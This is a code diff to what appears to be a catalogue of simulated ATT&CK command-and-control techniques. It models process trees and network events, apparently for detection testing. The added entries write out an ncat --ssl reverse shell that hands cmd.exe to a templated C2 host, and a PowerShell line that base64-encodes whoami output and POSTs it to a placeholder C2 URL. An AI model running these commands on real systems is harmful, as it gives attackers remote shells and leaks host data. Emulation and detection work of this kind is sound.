@@ -41,7 +41,16 @@ export const commandAndControlB = [
     v("rc4", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2ip}}", 443]], keep: true }], { shell: "none" }),
   ]),
   t("T1573.002", "Asymmetric cryptography", "TLS via openssl/ncat --ssl reverse shell.", [
-    v("ncat-ssl", [{ cmd: "{{tools}}\\ncat.exe --ssl {{c2ip}} 443 -e cmd.exe", net: [["{{c2ip}}", 443]] }]),
+    // -e hands the connection to a cmd.exe child: the operator's shell.
+    v("ncat-ssl", [
+      {
+        cmd: "{{tools}}\\ncat.exe --ssl {{c2ip}} 443 -e cmd.exe",
+        net: [["{{c2ip}}", 443]],
+        as: "nc",
+        keep: true,
+      },
+      { cmd: "cmd.exe", parent: "nc", keep: true },
+    ]),
   ]),
   t("T1665", "Hide infrastructure", "C2 behind CDN/cloud front ends.", [
     v("cdn", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{rand}}.cloudfront.net", 443]], keep: true }], {
@@ -98,8 +107,10 @@ export const commandAndControlB = [
       [
         {
           ps: "$d = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes((whoami))); iwr -Method Post -Uri https://{{c2}}/c -Body $d",
-          net: [["{{c2}}", 443]],
         },
+        // (whoami) is the native whoami.exe, run by the shell before the POST.
+        { cmd: '"C:\\Windows\\system32\\whoami.exe"', delay: 300 },
+        { by: "sh", net: [["{{c2}}", 443]] },
       ],
       { shell: "ps" },
     ),
